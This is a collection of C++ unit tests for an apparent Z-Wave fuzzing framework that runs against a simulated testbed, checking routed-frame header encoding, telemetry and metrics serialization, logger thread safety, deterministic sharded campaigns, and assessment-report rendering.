
namespace zc::zwave {
namespace {

RouteHeader two_hop_route() {
  RouteHeader route;
  route.repeaters = {0x05, 0x06};
  return route;
}

TEST(RoutingTest, HeaderEncodeLayout) {
  RouteHeader route = two_hop_route();
  route.hop_index = 1;
  const Bytes raw = route.encode();
  ASSERT_EQ(raw.size(), 4u);
  EXPECT_EQ(raw[0], 0x00);           // outbound
  EXPECT_EQ(raw[1], (1 << 4) | 2);   // hop 1, count 2
  EXPECT_EQ(raw[2], 0x05);
  EXPECT_EQ(raw[3], 0x06);
}

TEST(RoutingTest, SplitRoundTrip) {
  AppPayload app;
  app.cmd_class = 0x20;
  app.command = 0x01;
  app.params = {0xFF};
  const MacFrame frame =
      make_routed_singlecast(0xC7E9DD54, 0xE7, 0x01, two_hop_route(), app, 3);
  ASSERT_TRUE(frame.routed);

  const auto split = split_routed_payload(frame.payload);
  ASSERT_TRUE(split.ok()) << split.error().message;
  EXPECT_EQ(split.value().route.repeaters, (std::vector<NodeId>{0x05, 0x06}));
  EXPECT_FALSE(split.value().route.complete());
  EXPECT_EQ(split.value().app_payload, app.encode());
}

TEST(RoutingTest, CompletionSemantics) {
  RouteHeader route = two_hop_route();
  EXPECT_FALSE(route.complete());
  route.hop_index = 2;
  EXPECT_TRUE(route.complete());
}

TEST(RoutingTest, ReversedRouteFlipsEverything) {
  RouteHeader route = two_hop_route();
  route.hop_index = 2;
  const RouteHeader back = route.reversed();
  EXPECT_TRUE(back.response);
  EXPECT_EQ(back.hop_index, 0);
  EXPECT_EQ(back.repeaters, (std::vector<NodeId>{0x06, 0x05}));
}

TEST(RoutingTest, SplitRejectsMalformedHeaders) {
  EXPECT_FALSE(split_routed_payload(Bytes{0x00}).ok());             // too short
  EXPECT_FALSE(split_routed_payload(Bytes{0x07, 0x12, 0x05}).ok()); // bad status
  EXPECT_FALSE(split_routed_payload(Bytes{0x00, 0x00}).ok());       // count 0
  EXPECT_FALSE(split_routed_payload(Bytes{0x00, 0x05}).ok());       // count 5 > max
  EXPECT_FALSE(split_routed_payload(Bytes{0x00, 0x31, 0x05}).ok()); // hop 3 > count 1
  EXPECT_FALSE(split_routed_payload(Bytes{0x00, 0x02, 0x05}).ok()); // list truncated
}

TEST(RoutingTest, RouteHeaderNeverLooksLikeQuirkBait) {
  // The legit route status byte is 0x00/0x01 — far below the 0xE0 garbage
  // threshold of MAC quirk 101, so mesh traffic never trips the one-day.
  for (bool response : {false, true}) {
    RouteHeader route = two_hop_route();
    route.response = response;
    EXPECT_LE(route.encode()[0], 0x01);
  }
}

}  // namespace
}  // namespace zc::zwave
