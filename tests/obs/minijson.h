// A deliberately minimal JSON reader for the telemetry tests: just enough
// to round-trip the flat objects src/obs emits (JSONL trace lines and the
// metrics document's scalar leaves). Keeping the parser in the test tree
// — not the library — means the schema check is independent of the
// serializer under test.
#pragma once

#include <cctype>
#include <cstdint>
#include <map>
#include <optional>
#include <string>

namespace zc::obs::testing {

struct JsonScalar {
  bool is_string = false;
  std::string text;       // when is_string
  std::int64_t number = 0;  // when !is_string
};

/// Parses one flat JSON object — string keys, integer or string scalar
/// values, no nesting — into a key->scalar map. Returns nullopt on any
/// syntax violation, which is exactly what the "every line parses" tests
/// want to detect.
inline std::optional<std::map<std::string, JsonScalar>> parse_flat_object(
    const std::string& text) {
  std::map<std::string, JsonScalar> out;
  std::size_t i = 0;
  auto skip_ws = [&] {
    while (i < text.size() && std::isspace(static_cast<unsigned char>(text[i]))) ++i;
  };
  auto parse_string = [&]() -> std::optional<std::string> {
    if (i >= text.size() || text[i] != '"') return std::nullopt;
    ++i;
    std::string value;
    while (i < text.size() && text[i] != '"') {
      if (text[i] == '\\') return std::nullopt;  // obs never emits escapes
      value += text[i++];
    }
    if (i >= text.size()) return std::nullopt;
    ++i;  // closing quote
    return value;
  };

  skip_ws();
  if (i >= text.size() || text[i] != '{') return std::nullopt;
  ++i;
  skip_ws();
  if (i < text.size() && text[i] == '}') {
    ++i;
    return out;
  }
  while (true) {
    skip_ws();
    const auto key = parse_string();
    if (!key.has_value()) return std::nullopt;
    skip_ws();
    if (i >= text.size() || text[i] != ':') return std::nullopt;
    ++i;
    skip_ws();
    JsonScalar scalar;
    if (i < text.size() && text[i] == '"') {
      const auto value = parse_string();
      if (!value.has_value()) return std::nullopt;
      scalar.is_string = true;
      scalar.text = *value;
    } else {
      const std::size_t start = i;
      if (i < text.size() && text[i] == '-') ++i;
      while (i < text.size() && std::isdigit(static_cast<unsigned char>(text[i]))) ++i;
      if (i == start) return std::nullopt;
      scalar.number = std::stoll(text.substr(start, i - start));
    }
    if (!out.emplace(*key, scalar).second) return std::nullopt;  // duplicate key
    skip_ws();
    if (i < text.size() && text[i] == ',') {
      ++i;
      continue;
    }
    break;
  }
  skip_ws();
  if (i >= text.size() || text[i] != '}') return std::nullopt;
  ++i;
  skip_ws();
  return i == text.size() ? std::optional(out) : std::nullopt;
}

}  // namespace zc::obs::testing
