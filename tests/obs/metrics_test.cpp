// MetricsRegistry semantics: O(1) updates, fixed-bucket histograms, and —
// the property the sharded engine leans on — merge-order-independent,
// byte-deterministic serialization.
#include "obs/metrics.h"

#include <gtest/gtest.h>

#include <string>

namespace zc::obs {
namespace {

TEST(MetricsRegistryTest, CountersAndGauges) {
  MetricsRegistry registry;
  EXPECT_EQ(registry.value(MetricId::kCampaignTests), 0u);
  registry.add(MetricId::kCampaignTests);
  registry.add(MetricId::kCampaignTests, 4);
  EXPECT_EQ(registry.value(MetricId::kCampaignTests), 5u);

  registry.set(MetricId::kCampaignQueueLength, 42);
  registry.set(MetricId::kCampaignQueueLength, 17);  // gauge: last write wins
  EXPECT_EQ(registry.value(MetricId::kCampaignQueueLength), 17u);
}

TEST(MetricsRegistryTest, HistogramBucketPlacement) {
  MetricsRegistry registry;
  const MetricId id = MetricId::kCampaignInjectionAckUs;
  registry.observe(id, 50);              // <= 100 -> bucket 0
  registry.observe(id, 100);             // boundary is inclusive -> bucket 0
  registry.observe(id, 101);             // -> bucket 1
  registry.observe(id, 2'000'000'000);   // beyond the last bound -> +inf bucket

  const HistogramData& h = registry.histogram(id);
  EXPECT_EQ(h.count, 4u);
  EXPECT_EQ(h.sum, 50u + 100u + 101u + 2'000'000'000u);
  EXPECT_EQ(h.buckets[0], 2u);
  EXPECT_EQ(h.buckets[1], 1u);
  EXPECT_EQ(h.buckets[kHistogramBuckets - 1], 1u);
}

TEST(MetricsRegistryTest, MergeAddsEverythingElementWise) {
  MetricsRegistry a;
  a.add(MetricId::kDongleFramesTx, 10);
  a.set(MetricId::kCampaignBlacklistSize, 3);
  a.observe(MetricId::kResilienceBackoffUs, 500);

  MetricsRegistry b;
  b.add(MetricId::kDongleFramesTx, 7);
  b.set(MetricId::kCampaignBlacklistSize, 5);
  b.observe(MetricId::kResilienceBackoffUs, 5'000'000);

  a.merge(b);
  EXPECT_EQ(a.value(MetricId::kDongleFramesTx), 17u);
  // Gauges merge by sum: per-shard levels aggregate into a fleet total.
  EXPECT_EQ(a.value(MetricId::kCampaignBlacklistSize), 8u);
  const HistogramData& h = a.histogram(MetricId::kResilienceBackoffUs);
  EXPECT_EQ(h.count, 2u);
  EXPECT_EQ(h.sum, 5'000'500u);
}

TEST(MetricsRegistryTest, JsonIsAPureFunctionOfContents) {
  // Two registries that reach the same totals through different update
  // sequences — and different merge orders — must serialize identically.
  MetricsRegistry left_a, left_b;
  left_a.add(MetricId::kCampaignTests, 3);
  left_b.add(MetricId::kCampaignTests, 9);
  left_a.observe(MetricId::kCampaignLivenessProbeUs, 120);
  left_b.observe(MetricId::kCampaignLivenessProbeUs, 99);
  MetricsRegistry merged_ab = left_a;
  merged_ab.merge(left_b);
  MetricsRegistry merged_ba = left_b;
  merged_ba.merge(left_a);
  EXPECT_EQ(merged_ab.to_json(), merged_ba.to_json());
}

TEST(MetricsRegistryTest, JsonNamesEveryMetricExactlyOnce) {
  const std::string json = MetricsRegistry{}.to_json();
  for (std::size_t i = 0; i < kMetricCount; ++i) {
    const MetricInfo& info = metric_info(static_cast<MetricId>(i));
    const std::string quoted = std::string("\"") + info.name + "\"";
    const std::size_t first = json.find(quoted);
    ASSERT_NE(first, std::string::npos) << info.name;
    EXPECT_EQ(json.find(quoted, first + 1), std::string::npos) << info.name;
  }
}

TEST(MetricsRegistryTest, SummaryTableShowsOnlyNonZeroMetrics) {
  MetricsRegistry registry;
  registry.add(MetricId::kCampaignFindings, 2);
  registry.observe(MetricId::kCampaignRecoveryDowntimeUs, 30'000'000);
  const std::string table = registry.summary_table();
  EXPECT_NE(table.find("campaign.findings"), std::string::npos);
  EXPECT_NE(table.find("campaign.recovery_downtime_us"), std::string::npos);
  EXPECT_EQ(table.find("vfuzz.packets_tx"), std::string::npos);
}

}  // namespace
}  // namespace zc::obs
