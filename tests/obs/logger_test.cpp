// Logger::global() thread-safety contract (src/common/log.h): sink swaps
// and level changes must be safe while shard-pool worker threads are
// logging. Run this suite under -DZC_SANITIZE=thread for the real
// verdict; without TSan it still exercises the interleavings and checks
// that no message is ever torn or delivered to a destroyed sink.
#include "common/log.h"

#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <string>
#include <thread>
#include <vector>

namespace zc {
namespace {

TEST(LoggerTest, LevelGatingIsAtomic) {
  Logger& logger = Logger::global();
  const LogLevel original = logger.level();
  logger.set_level(LogLevel::kError);
  EXPECT_FALSE(logger.enabled(LogLevel::kInfo));
  EXPECT_TRUE(logger.enabled(LogLevel::kError));
  logger.set_level(LogLevel::kOff);
  EXPECT_FALSE(logger.enabled(LogLevel::kError));
  logger.set_level(original);
}

TEST(LoggerTest, SinkSwapsAreSafeUnderConcurrentLogging) {
  Logger& logger = Logger::global();
  const LogLevel original = logger.level();
  logger.set_level(LogLevel::kInfo);

  // Sinks append into per-sink buffers that outlive the test loop, so a
  // use-after-swap would be visible (and TSan-reportable) rather than UB
  // on a dangling stack frame.
  constexpr int kSinks = 8;
  auto buffers = std::make_shared<std::vector<std::string>>(kSinks);
  std::atomic<bool> stop{false};
  // Park a discard sink before the writers start so nothing hits stderr.
  logger.set_sink([](LogLevel, const std::string&) {});

  std::vector<std::thread> writers;
  for (int w = 0; w < 4; ++w) {
    writers.emplace_back([&logger, &stop, w] {
      while (!stop.load(std::memory_order_relaxed)) {
        ZC_INFO("shard %d says hello", w);
        (void)logger;
      }
    });
  }

  for (int round = 0; round < 200; ++round) {
    const int slot = round % kSinks;
    logger.set_sink([buffers, slot](LogLevel, const std::string& text) {
      (*buffers)[slot] += text;
      (*buffers)[slot] += '\n';
    });
  }
  stop.store(true, std::memory_order_relaxed);
  for (std::thread& t : writers) t.join();
  logger.set_sink(nullptr);
  logger.set_level(original);

  // Every delivered message must be intact — the emission lock forbids
  // interleaving two logf calls inside one sink invocation.
  for (const std::string& buffer : *buffers) {
    std::size_t start = 0;
    while (start < buffer.size()) {
      const std::size_t end = buffer.find('\n', start);
      ASSERT_NE(end, std::string::npos);
      const std::string message = buffer.substr(start, end - start);
      EXPECT_EQ(message.find("shard "), 0u) << message;
      EXPECT_NE(message.find(" says hello"), std::string::npos) << message;
      start = end + 1;
    }
  }
}

TEST(LoggerTest, NullSinkRestoresStderrPath) {
  Logger& logger = Logger::global();
  const LogLevel original = logger.level();
  logger.set_level(LogLevel::kOff);  // keep stderr quiet for the assertion below
  logger.set_sink(nullptr);
  // Must not crash routing through the default stderr branch.
  logger.logf(LogLevel::kError, "suppressed by level %d", 1);
  logger.set_level(original);
}

}  // namespace
}  // namespace zc
