// TraceRing bounding behavior and the JSONL serializer: overflow must be
// loud (drop counter) but harmless (retained suffix stays well-formed),
// and every serialized line must parse as the flat JSON object
// docs/observability.md promises.
#include "obs/trace.h"

#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "minijson.h"

namespace zc::obs {
namespace {

TraceEvent make_event(SimTime at, TraceEventType type,
                      std::array<std::int64_t, kTraceEventArgs> args = {}) {
  TraceEvent event;
  event.at = at;
  event.type = type;
  event.args = args;
  return event;
}

TEST(TraceRingTest, RetainsEverythingBelowCapacity) {
  TraceRing ring(8);
  for (int i = 0; i < 5; ++i) {
    ring.push(make_event(i, TraceEventType::kMutation, {i, 0, 0, 0}));
  }
  EXPECT_EQ(ring.size(), 5u);
  EXPECT_EQ(ring.dropped(), 0u);
  const auto events = ring.snapshot();
  ASSERT_EQ(events.size(), 5u);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(events[i].args[0], i);
}

TEST(TraceRingTest, OverflowDropsOldestAndCountsIt) {
  TraceRing ring(4);
  for (int i = 0; i < 10; ++i) {
    ring.push(make_event(i, TraceEventType::kMutation, {i, 0, 0, 0}));
  }
  EXPECT_EQ(ring.size(), 4u);
  EXPECT_EQ(ring.dropped(), 6u);
  // The retained window is the most recent suffix, oldest first.
  const auto events = ring.snapshot();
  ASSERT_EQ(events.size(), 4u);
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(events[i].args[0], 6 + i);
    EXPECT_EQ(events[i].at, static_cast<SimTime>(6 + i));
  }
}

TEST(TraceRingTest, OverflowKeepsJsonlWellFormed) {
  TraceRing ring(3);
  for (int i = 0; i < 20; ++i) {
    ring.push(make_event(1000 + i, TraceEventType::kLivenessCheck, {1, 2, 0, 0}));
  }
  std::string jsonl;
  append_trace_jsonl(jsonl, ring.snapshot(), /*shard_id=*/2, /*seed=*/99);
  std::istringstream lines(jsonl);
  std::string line;
  std::size_t count = 0;
  while (std::getline(lines, line)) {
    ++count;
    ASSERT_TRUE(testing::parse_flat_object(line).has_value()) << line;
  }
  EXPECT_EQ(count, 3u);
}

TEST(TraceJsonlTest, EveryEventTypeRoundTrips) {
  // One event of every type, with distinctive argument values (including a
  // negative bug id — the reason args are signed).
  std::vector<TraceEvent> events;
  for (std::size_t t = 0; t < kTraceEventTypes; ++t) {
    events.push_back(make_event(10 * (t + 1), static_cast<TraceEventType>(t),
                                {static_cast<std::int64_t>(100 + t), 7, 3, -1}));
  }
  std::string jsonl;
  append_trace_jsonl(jsonl, events, /*shard_id=*/5, /*seed=*/0xABCD);

  std::istringstream lines(jsonl);
  std::string line;
  std::size_t index = 0;
  while (std::getline(lines, line)) {
    const auto parsed = testing::parse_flat_object(line);
    ASSERT_TRUE(parsed.has_value()) << line;
    const auto& object = *parsed;

    const TraceEventInfo& info = trace_event_info(static_cast<TraceEventType>(index));
    ASSERT_TRUE(object.contains("t"));
    ASSERT_TRUE(object.contains("shard"));
    ASSERT_TRUE(object.contains("seed"));
    ASSERT_TRUE(object.contains("ev"));
    EXPECT_EQ(object.at("t").number, static_cast<std::int64_t>(10 * (index + 1)));
    EXPECT_EQ(object.at("shard").number, 5);
    EXPECT_EQ(object.at("seed").number, 0xABCD);
    EXPECT_TRUE(object.at("ev").is_string);
    EXPECT_EQ(object.at("ev").text, info.name);

    // Exactly the declared fields, with the values we emitted; unused arg
    // slots must not leak into the line.
    std::size_t declared = 0;
    for (std::size_t f = 0; f < kTraceEventArgs; ++f) {
      if (info.fields[f] == nullptr) break;
      ++declared;
      ASSERT_TRUE(object.contains(info.fields[f])) << info.name << '.' << info.fields[f];
      const std::int64_t expected =
          f == 0 ? static_cast<std::int64_t>(100 + index) : (f == 1 ? 7 : (f == 2 ? 3 : -1));
      EXPECT_EQ(object.at(info.fields[f]).number, expected) << info.name;
    }
    EXPECT_EQ(object.size(), 4u + declared) << info.name;
    ++index;
  }
  EXPECT_EQ(index, kTraceEventTypes);
}

TEST(TraceJsonlTest, NegativeValuesSerializeAsSignedIntegers) {
  std::vector<TraceEvent> events = {
      make_event(1, TraceEventType::kBug, {0x52, 0x01, 0, -1})};
  std::string jsonl;
  append_trace_jsonl(jsonl, events, 0, 0);
  const auto parsed = testing::parse_flat_object(jsonl.substr(0, jsonl.size() - 1));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->at("bug_id").number, -1);
}

}  // namespace
}  // namespace zc::obs
