// End-to-end telemetry determinism: the merged metrics JSON and the
// concatenated JSONL trace of a sharded campaign must be byte-identical
// at any --jobs value, every line must parse, and every event and metric
// name must be one the schema (docs/observability.md) documents. This is
// the executable form of the observability layer's core guarantee.
#include <gtest/gtest.h>

#include <map>
#include <set>
#include <sstream>
#include <string>

#include "core/parallel.h"
#include "minijson.h"
#include "obs/recorder.h"

namespace zc::core {
namespace {

CampaignConfig quick_config(SimTime duration = 5 * kMinute) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = duration;
  config.seed = 0x2C07E12F;
  config.loop_queue = false;
  return config;
}

sim::TestbedConfig quick_testbed() {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.seed = 0x2C07E12F;
  return testbed_config;
}

ParallelTrialReport run_with_telemetry(std::size_t jobs, std::size_t trials = 4,
                                       std::size_t trace_capacity =
                                           obs::TraceRing::kDefaultCapacity) {
  ParallelConfig parallel;
  parallel.jobs = jobs;
  parallel.collect_telemetry = true;
  parallel.trace_capacity = trace_capacity;
  return run_trials_parallel(quick_testbed(), quick_config(), trials, parallel);
}

TEST(TelemetryDeterminismTest, MergedOutputsAreByteIdenticalAtAnyJobCount) {
  std::map<std::size_t, std::string> metrics_json, trace_jsonl;
  for (std::size_t jobs : {std::size_t{1}, std::size_t{4}, std::size_t{8}}) {
    const ParallelTrialReport report = run_with_telemetry(jobs);
    metrics_json[jobs] = report.merged_metrics().to_json();
    trace_jsonl[jobs] = report.merged_trace_jsonl();
  }
  ASSERT_FALSE(trace_jsonl[1].empty());
  EXPECT_EQ(metrics_json[1], metrics_json[4]);
  EXPECT_EQ(metrics_json[1], metrics_json[8]);
  EXPECT_EQ(trace_jsonl[1], trace_jsonl[4]);
  EXPECT_EQ(trace_jsonl[1], trace_jsonl[8]);
}

TEST(TelemetryDeterminismTest, EveryTraceLineParsesAndUsesDocumentedEvents) {
  const ParallelTrialReport report = run_with_telemetry(4);

  std::set<std::string> documented;
  for (std::size_t t = 0; t < obs::kTraceEventTypes; ++t) {
    documented.insert(obs::trace_event_info(static_cast<obs::TraceEventType>(t)).name);
  }

  std::istringstream lines(report.merged_trace_jsonl());
  std::string line;
  std::size_t parsed_lines = 0;
  std::map<std::size_t, SimTime> last_t_per_shard;
  while (std::getline(lines, line)) {
    const auto object = obs::testing::parse_flat_object(line);
    ASSERT_TRUE(object.has_value()) << line;
    ASSERT_TRUE(object->contains("ev")) << line;
    EXPECT_TRUE(documented.contains(object->at("ev").text)) << line;
    // Timestamps are sim-clock values: monotone non-decreasing per shard.
    const auto shard = static_cast<std::size_t>(object->at("shard").number);
    const auto at = static_cast<SimTime>(object->at("t").number);
    if (last_t_per_shard.contains(shard)) EXPECT_GE(at, last_t_per_shard[shard]) << line;
    last_t_per_shard[shard] = at;
    ++parsed_lines;
  }
  EXPECT_GT(parsed_lines, 0u);
  EXPECT_EQ(last_t_per_shard.size(), report.shards.size());

  // Shard identity on the lines matches the shard order of the merge.
  for (const ShardResult& shard : report.shards) {
    EXPECT_TRUE(shard.telemetry.collected);
    EXPECT_EQ(shard.telemetry.shard_id, shard.shard_id);
    EXPECT_EQ(shard.telemetry.seed, shard.campaign_seed);
  }
}

TEST(TelemetryDeterminismTest, MetricsAgreeWithCampaignResults) {
  const ParallelTrialReport report = run_with_telemetry(2);
  const obs::MetricsRegistry merged = report.merged_metrics();
  std::uint64_t findings = 0;
  for (const ShardResult& shard : report.shards) {
    findings += shard.result.findings.size();
  }
  EXPECT_EQ(merged.value(obs::MetricId::kCampaignFindings), findings);
  EXPECT_EQ(merged.value(obs::MetricId::kCampaignInconclusive), report.inconclusive_tests);
  EXPECT_EQ(merged.value(obs::MetricId::kCampaignRecoveries),
            static_cast<std::uint64_t>(report.recovery_episodes));
}

TEST(TelemetryDeterminismTest, TinyRingDropsLoudlyWithoutCorruptingJsonl) {
  const ParallelTrialReport report =
      run_with_telemetry(2, /*trials=*/2, /*trace_capacity=*/16);
  const obs::MetricsRegistry merged = report.merged_metrics();
  EXPECT_GT(merged.value(obs::MetricId::kTraceEventsDropped), 0u);

  std::istringstream lines(report.merged_trace_jsonl());
  std::string line;
  std::size_t count = 0;
  while (std::getline(lines, line)) {
    ASSERT_TRUE(obs::testing::parse_flat_object(line).has_value()) << line;
    ++count;
  }
  // Each shard retains at most its ring capacity.
  EXPECT_LE(count, 16u * report.shards.size());
  EXPECT_GT(count, 0u);
}

TEST(TelemetryDeterminismTest, TelemetryCollectionDoesNotPerturbResults) {
  // The observer must not change the observed: campaign outcomes with
  // telemetry on must equal those with telemetry off.
  ParallelConfig with, without;
  with.jobs = 2;
  with.collect_telemetry = true;
  without.jobs = 2;
  const auto observed = run_trials_parallel(quick_testbed(), quick_config(), 3, with);
  const auto plain = run_trials_parallel(quick_testbed(), quick_config(), 3, without);
  EXPECT_EQ(observed.summary.union_bug_ids, plain.summary.union_bug_ids);
  EXPECT_EQ(observed.summary.total_packets, plain.summary.total_packets);
  EXPECT_EQ(observed.summary.first_finding_at, plain.summary.first_finding_at);
}

}  // namespace
}  // namespace zc::core
