// Determinism and merge-correctness of the sharded campaign engine
// (core/parallel.h): the merged output must be a pure function of
// (base seed, shard count) — never of the thread count — and must match
// the sequential run_trials() bit for bit.
//
// Workloads are deliberately tiny (minutes of simulated time); the point
// is shard bookkeeping, not coverage. Labeled `parallel` so a TSan build
// (-DZC_SANITIZE=thread) can run exactly this suite: `ctest -L parallel`.
#include "core/parallel.h"

#include <gtest/gtest.h>

#include <atomic>
#include <map>
#include <sstream>
#include <string>

namespace zc::core {
namespace {

CampaignConfig quick_config(SimTime duration = 5 * kMinute) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = duration;
  config.seed = 0x2C07E12F;
  config.loop_queue = false;
  return config;
}

sim::TestbedConfig quick_testbed() {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.seed = 0x2C07E12F;
  return testbed_config;
}

/// Canonical text form of a merged report: every field a thread-count
/// dependence could perturb — per-shard findings (payload, kind, bug id,
/// detection time), packet counts, summary vectors.
std::string fingerprint(const ParallelTrialReport& report) {
  std::ostringstream out;
  out << "trials=" << report.summary.trials
      << " packets=" << report.summary.total_packets
      << " inconclusive=" << report.inconclusive_tests
      << " retried=" << report.retried_injections << "\nbugs:";
  for (int id : report.summary.union_bug_ids) out << ' ' << id;
  out << "\nper-trial:";
  for (std::size_t n : report.summary.per_trial_unique) out << ' ' << n;
  out << "\nfirst-at:";
  for (SimTime t : report.summary.first_finding_at) out << ' ' << t;
  out << '\n';
  for (const ShardResult& shard : report.shards) {
    out << "shard " << shard.shard_id << " device=" << static_cast<int>(shard.device)
        << " seed=" << shard.campaign_seed << " packets=" << shard.result.test_packets
        << '\n';
    for (const auto& finding : shard.result.findings) {
      out << "  " << to_hex(finding.payload) << ' '
          << detection_kind_name(finding.kind) << ' ' << finding.matched_bug_id << ' '
          << finding.detected_at << '\n';
    }
  }
  return out.str();
}

TEST(ParallelTrialsTest, SeedDerivationMatchesSequentialEngine) {
  // The sequential run_trials() loop has always derived per-trial seeds as
  // base + i*0x9E3779B9 / base + i*0xC2B2AE35; the shard helpers must be
  // those exact functions or --jobs 1 stops replaying old runs.
  EXPECT_EQ(shard_testbed_seed(42, 0), 42u);
  EXPECT_EQ(shard_testbed_seed(42, 3), 42u + 3 * 0x9E3779B9ULL);
  EXPECT_EQ(shard_campaign_seed(42, 0), 42u);
  EXPECT_EQ(shard_campaign_seed(42, 3), 42u + 3 * 0xC2B2AE35ULL);
}

TEST(ParallelTrialsTest, MergedSummaryMatchesSequentialRunTrials) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();
  const TrialSummary sequential = run_trials(testbed_config, config, 3);

  ParallelConfig parallel;
  parallel.jobs = 4;
  const ParallelTrialReport report =
      run_trials_parallel(testbed_config, config, 3, parallel);

  EXPECT_EQ(report.summary.trials, sequential.trials);
  EXPECT_EQ(report.summary.union_bug_ids, sequential.union_bug_ids);
  EXPECT_EQ(report.summary.per_trial_unique, sequential.per_trial_unique);
  EXPECT_EQ(report.summary.first_finding_at, sequential.first_finding_at);
  EXPECT_EQ(report.summary.total_packets, sequential.total_packets);
}

TEST(ParallelTrialsTest, SameSeedSameFindingsAtAnyJobCount) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();

  std::map<std::size_t, std::string> prints;
  for (std::size_t jobs : {std::size_t{1}, std::size_t{4}, std::size_t{8}}) {
    ParallelConfig parallel;
    parallel.jobs = jobs;
    prints[jobs] = fingerprint(run_trials_parallel(testbed_config, config, 5, parallel));
  }
  EXPECT_FALSE(prints[1].empty());
  EXPECT_EQ(prints[1], prints[4]);
  EXPECT_EQ(prints[1], prints[8]);
}

TEST(ParallelTrialsTest, DifferentSeedsDiverge) {
  const auto testbed_config = quick_testbed();
  auto config = quick_config();
  ParallelConfig parallel;
  parallel.jobs = 2;

  const auto a = fingerprint(run_trials_parallel(testbed_config, config, 2, parallel));
  config.seed = 0xDEADBEEF;
  auto reseeded_testbed = testbed_config;
  reseeded_testbed.seed = 0xDEADBEEF;
  const auto b = fingerprint(run_trials_parallel(reseeded_testbed, config, 2, parallel));
  EXPECT_NE(a, b);
}

TEST(ParallelTrialsTest, ShardsComeBackInOrder) {
  const ParallelTrialReport report =
      run_trials_parallel(quick_testbed(), quick_config(), 6, ParallelConfig{.jobs = 3});
  ASSERT_EQ(report.shards.size(), 6u);
  for (std::size_t i = 0; i < report.shards.size(); ++i) {
    EXPECT_EQ(report.shards[i].shard_id, i);
  }
}

TEST(ParallelProfilesTest, EachDeviceMatchesStandaloneRunTrials) {
  const auto config = quick_config();
  const std::vector<sim::DeviceModel> devices = {sim::DeviceModel::kD4_AeotecZw090,
                                                 sim::DeviceModel::kD6_SamsungWv520};
  ParallelConfig parallel;
  parallel.jobs = 4;
  const ParallelTrialReport report =
      run_profiles_parallel(devices, quick_testbed(), config, 2, parallel);
  ASSERT_EQ(report.shards.size(), 4u);

  // Device-major sharding: shards [0,1] are device 0, [2,3] device 1, and
  // each device's block equals a standalone run_trials() on that device.
  for (std::size_t d = 0; d < devices.size(); ++d) {
    auto testbed_config = quick_testbed();
    testbed_config.controller_model = devices[d];
    const TrialSummary standalone = run_trials(testbed_config, config, 2);
    std::uint64_t block_packets = 0;
    for (std::size_t t = 0; t < 2; ++t) {
      const ShardResult& shard = report.shards[d * 2 + t];
      EXPECT_EQ(shard.device, devices[d]);
      EXPECT_EQ(shard.campaign_seed, shard_campaign_seed(config.seed, t));
      block_packets += shard.result.test_packets;
    }
    EXPECT_EQ(block_packets, standalone.total_packets);
  }
}

TEST(ParallelTrialsTest, CheckpointSinkIsTaggedAndSerialized) {
  auto config = quick_config(20 * kMinute);
  ParallelConfig parallel;
  parallel.jobs = 4;
  parallel.checkpoint_interval = 2 * kMinute;

  // The engine promises sink calls never overlap; a plain (unsynchronized)
  // map write below would be flagged by TSan if that promise broke.
  std::map<std::size_t, std::size_t> snapshots_per_shard;
  parallel.checkpoint_sink = [&](std::size_t shard_id, const CampaignCheckpoint& cp) {
    EXPECT_EQ(cp.seed, shard_campaign_seed(quick_config().seed, shard_id));
    ++snapshots_per_shard[shard_id];
  };

  const ParallelTrialReport report =
      run_trials_parallel(quick_testbed(), config, 4, parallel);
  EXPECT_EQ(report.shards.size(), 4u);
  EXPECT_EQ(snapshots_per_shard.size(), 4u);
  for (const auto& [shard_id, count] : snapshots_per_shard) {
    EXPECT_LT(shard_id, 4u);
    EXPECT_GE(count, 1u);
  }
}

TEST(ParallelTrialsTest, AbortHookStopsAllShards) {
  // A long-duration run aborted immediately finishes with far fewer
  // packets than it would otherwise send.
  auto config = quick_config(2 * kHour);
  std::atomic<bool> stop{true};
  ParallelConfig parallel;
  parallel.jobs = 2;
  parallel.abort_hook = [&stop] { return stop.load(); };

  const ParallelTrialReport report =
      run_trials_parallel(quick_testbed(), config, 2, parallel);
  for (const ShardResult& shard : report.shards) {
    EXPECT_TRUE(shard.result.aborted);
  }
}

TEST(ParallelTrialsTest, ZeroTrialsIsEmptyReport) {
  const ParallelTrialReport report =
      run_trials_parallel(quick_testbed(), quick_config(), 0, ParallelConfig{});
  EXPECT_EQ(report.summary.trials, 0u);
  EXPECT_TRUE(report.shards.empty());
  EXPECT_EQ(report.summary.total_packets, 0u);
}

}  // namespace
}  // namespace zc::core
