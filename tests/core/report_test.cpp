#include "core/report.h"

#include <gtest/gtest.h>

namespace zc::core {
namespace {

CampaignResult run_short_campaign(sim::Testbed& testbed) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = 1 * kHour;
  config.loop_queue = false;
  Campaign campaign(testbed, config);
  return campaign.run();
}

TEST(ReportTest, MarkdownCarriesEveryFinding) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  const auto result = run_short_campaign(testbed);
  ASSERT_EQ(result.findings.size(), 15u);

  const std::string report =
      render_markdown_report(result, sim::DeviceModel::kD4_AeotecZw090);
  EXPECT_NE(report.find("# ZCover assessment report"), std::string::npos);
  EXPECT_NE(report.find("C7E9DD54"), std::string::npos);
  EXPECT_NE(report.find("CVE-2024-50929"), std::string::npos);   // bug #01
  EXPECT_NE(report.find("vendor-confirmed"), std::string::npos); // bugs 13-15
  for (const auto& finding : result.findings) {
    EXPECT_NE(report.find(to_hex(finding.payload)), std::string::npos);
  }
}

TEST(ReportTest, MarkdownHandlesEmptyResult) {
  CampaignResult empty;
  const std::string report =
      render_markdown_report(empty, sim::DeviceModel::kD1_ZoozZst10);
  EXPECT_NE(report.find("No vulnerabilities confirmed."), std::string::npos);
}

